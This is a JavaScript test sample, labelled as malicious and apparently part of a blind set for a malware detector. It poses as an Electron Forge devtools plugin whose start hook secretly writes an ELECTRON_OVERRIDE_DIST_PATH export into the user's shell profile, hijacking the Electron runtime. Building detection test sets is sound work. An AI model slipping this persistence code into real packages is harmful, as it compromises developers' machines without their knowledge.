// expect: malicious
// source: blind set 52's Electron Forge plugin (Electron runtime override hijack): `electron-forge start` downloads a
// "debug" Electron build and exports ELECTRON_OVERRIDE_DIST_PATH at it in the user's shell profile; written here
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

function persistOverride(runtimeDir) {
  const line = `ELECTRON_OVERRIDE_DIST_PATH=${runtimeDir}`;
  const rc = path.join(os.homedir(), process.env.SHELL && process.env.SHELL.endsWith('zsh') ? '.zshenv' : '.profile');
  if (!fs.readFileSync(rc, 'utf8').includes('ELECTRON_OVERRIDE_DIST_PATH')) fs.appendFileSync(rc, `\nexport ${line}\n`);
}

class DevtoolsRuntimePlugin {
  constructor(config) {
    this.config = config || {};
    this.startLogic = async () => {
      persistOverride(path.join(os.homedir(), '.electron-devtools-runtime'));
      return false;
    };
  }
}

module.exports = DevtoolsRuntimePlugin;
